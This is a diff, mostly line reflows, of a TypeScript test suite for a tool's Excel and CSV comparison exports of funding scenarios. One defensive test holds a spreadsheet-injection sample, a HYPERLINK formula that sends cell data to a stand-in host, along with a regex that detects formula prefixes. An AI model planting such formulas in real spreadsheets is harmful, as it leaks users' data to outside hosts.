@@ -64,7 +64,9 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
     expect(book.worksheets.map((s) => s.name)).toEqual(['Summary', 'Years', 'Interventions', 'Monthly']);
     for (const sheet of book.worksheets) {
       expect(sheet.getCell('A1').value).toBe('West Midlands VRU: 2021/22 cliff edge');
-      expect(String(sheet.getCell('A2').value)).toContain('Flat grant, confirmed in June [flat-june, wait] against 25% cut, confirmed in June [cut-25-june, wait]');
+      expect(String(sheet.getCell('A2').value)).toContain(
+        'Flat grant, confirmed in June [flat-june, wait] against 25% cut, confirmed in June [cut-25-june, wait]',
+      );
       expect(sheet.getCell('A3').value).toBe('Produced by Headroom on 4 May 2026. Money in pounds, exact to the penny.');
       expect(sheet.views[0]).toMatchObject({ state: 'frozen' });
       expect((sheet.views[0] as { ySplit: number }).ySplit).toBeGreaterThanOrEqual(5);
@@ -74,7 +76,13 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
 
   it('Summary: every total, cell for cell, with differences from the first scenario', () => {
     const sheet = book.getWorksheet('Summary')!;
-    expect(sheet.getRow(5).values).toEqual([, 'Measure', 'Flat grant, confirmed in June [flat-june]', '25% cut, confirmed in June [cut-25-june]', 'cut-25-june − flat-june']);
+    expect(sheet.getRow(5).values).toEqual([
+      ,
+      'Measure',
+      'Flat grant, confirmed in June [flat-june]',
+      '25% cut, confirmed in June [cut-25-june]',
+      'cut-25-june − flat-june',
+    ]);
     json.compared.totals.forEach((row, i) => {
       const cells = sheet.getRow(6 + i);
       expect(cells.getCell(1).value).toBe(row.label);
@@ -98,7 +106,9 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
         const cells = sheet.getRow(r++);
         expect([cells.getCell(1).value, cells.getCell(2).value]).toEqual([year.label, row.label]);
         expect([cells.getCell(3).value, cells.getCell(4).value, cells.getCell(5).value]).toEqual([
-          expected(row.kind, row.values[0]), expected(row.kind, row.values[1]), expected(row.kind, row.differences[1], true),
+          expected(row.kind, row.values[0]),
+          expected(row.kind, row.values[1]),
+          expected(row.kind, row.differences[1], true),
         ]);
       }
     }
@@ -116,7 +126,17 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
 
   it('Monthly: funding, spend and partner for each scenario, in pounds exact to the penny', () => {
     const sheet = book.getWorksheet('Monthly')!;
-    expect(sheet.getRow(6).values).toEqual([, 'Month', 'FY', 'Funding', 'Spend', 'Paid by partners', 'Funding', 'Spend', 'Paid by partners']);
+    expect(sheet.getRow(6).values).toEqual([
+      ,
+      'Month',
+      'FY',
+      'Funding',
+      'Spend',
+      'Paid by partners',
+      'Funding',
+      'Spend',
+      'Paid by partners',
+    ]);
     const months = json.simulated.scenarios[0].months;
     expect(months).toHaveLength(36);
     months.forEach((m, i) => {
@@ -124,7 +144,11 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
       expect(cells.getCell(1).value).toBe(m.month);
       json.simulated.scenarios.forEach((s, k) => {
         const month = s.months[i];
-        expect([cells.getCell(3 + k * 3).value, cells.getCell(4 + k * 3).value, cells.getCell(5 + k * 3).value]).toEqual([month.funding, month.spend, month.partner]);
+        expect([cells.getCell(3 + k * 3).value, cells.getCell(4 + k * 3).value, cells.getCell(5 + k * 3).value]).toEqual([
+          month.funding,
+          month.spend,
+          month.partner,
+        ]);
       });
     });
     expect(sheet.getCell('D7').numFmt).toBe(MONEY_FORMAT);
@@ -133,7 +157,8 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
   it('writes numbers as numbers: no formula anywhere in the file', async () => {
     const bytes = await comparisonWorkbook(demo(), IDS, { date: DATE });
     for (const entry of readZipDirectory(bytes)) expect(entry.name).not.toMatch(/calcChain/);
-    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+    for (const sheet of book.worksheets)
+      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 });
 
@@ -157,16 +182,21 @@ describe('formula-looking text from the plan', () => {
     expect(names).toContain("'-2+3");
     expect(names).toContain("'\tTabbed");
     expect(book.title).toBe(`'${plan.name}`);
-    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => {
-      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
-      if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
-    }));
+    for (const sheet of book.worksheets)
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
+        }),
+      );
     // And in the raw XML: no <f> element on any sheet.
     const entries = readZipDirectory(bytes);
     const sheets = entries.filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.name));
     expect(sheets).toHaveLength(4);
     for (const sheet of sheets) expect(rawPart(bytes, sheet.name)).not.toMatch(/<f[ >]/);
-    expect(rawPart(bytes, 'xl/sharedStrings.xml')).toContain('&apos;=HYPERLINK(&quot;http://example.invalid/?x=&quot;&amp;A1,&quot;Click&quot;)');
+    expect(rawPart(bytes, 'xl/sharedStrings.xml')).toContain(
+      '&apos;=HYPERLINK(&quot;http://example.invalid/?x=&quot;&amp;A1,&quot;Click&quot;)',
+    );
   });
 });
 
@@ -197,10 +227,19 @@ describe('writing files', () => {
   it('a writer killed in the middle of an export leaves the old file or the new one, whole', async () => {
     const script = join(dir, 'writer.cjs');
     buildSync({
-      stdin: { contents: `import { writeFileAtomic } from ${JSON.stringify(join(root, 'electron/atomic-file.ts'))};
+      stdin: {
+        contents: `import { writeFileAtomic } from ${JSON.stringify(join(root, 'electron/atomic-file.ts'))};
         const [path, size] = process.argv.slice(2);
-        for (let i = 0; ; i++) writeFileAtomic(path, Buffer.alloc(Number(size), i % 2 ? 0x42 : 0x41));`, resolveDir: root, loader: 'ts' },
-      bundle: true, platform: 'node', format: 'cjs', outfile: script, external: ['exceljs'], logLevel: 'silent',
+        for (let i = 0; ; i++) writeFileAtomic(path, Buffer.alloc(Number(size), i % 2 ? 0x42 : 0x41));`,
+        resolveDir: root,
+        loader: 'ts',
+      },
+      bundle: true,
+      platform: 'node',
+      format: 'cjs',
+      outfile: script,
+      external: ['exceljs'],
+      logLevel: 'silent',
     });
     const target = join(dir, 'killed.xlsx');
     const size = 8 * 1024 * 1024;
@@ -241,7 +280,12 @@ describe('headroom compare with files', () => {
     const xlsx = join(dir, 'compare.xlsx');
     const csv = join(dir, 'compare.csv');
     const run = capture();
-    expect(await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--csv', '--xlsx', xlsx, '--csv-out', csv], run.io)).toBe(0);
+    expect(
+      await runCli(
+        ['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--csv', '--xlsx', xlsx, '--csv-out', csv],
+        run.io,
+      ),
+    ).toBe(0);
     expect(run.out[0]).toMatch(/^Section,FY,Item,flat-june,cut-25-june,/);
     expect(run.err).toHaveLength(2);
     expect(run.err[0]).toMatch(/^Wrote .*compare\.csv \(3\.\d KB\) in \d+ ms$/);
@@ -253,10 +297,17 @@ describe('headroom compare with files', () => {
 
   it('refuses a wrong file name or a missing folder with a plain message', async () => {
     const wrong = capture();
-    expect(await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--xlsx', join(dir, 'x.csv')], wrong.io)).toBe(1);
+    expect(
+      await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--xlsx', join(dir, 'x.csv')], wrong.io),
+    ).toBe(1);
     expect(wrong.err[0]).toMatch(/^headroom compare: --xlsx needs a \.xlsx file name, not ".*x\.csv"\nUsage: /);
     const missing = capture();
-    expect(await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--xlsx', join(dir, 'none', 'x.xlsx')], missing.io)).toBe(1);
+    expect(
+      await runCli(
+        ['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--xlsx', join(dir, 'none', 'x.xlsx')],
+        missing.io,
+      ),
+    ).toBe(1);
     expect(missing.err[0]).toMatch(/^headroom compare: cannot write .*x\.xlsx: no such folder$/);
     expect(existsSync(join(dir, 'none'))).toBe(false);
   });
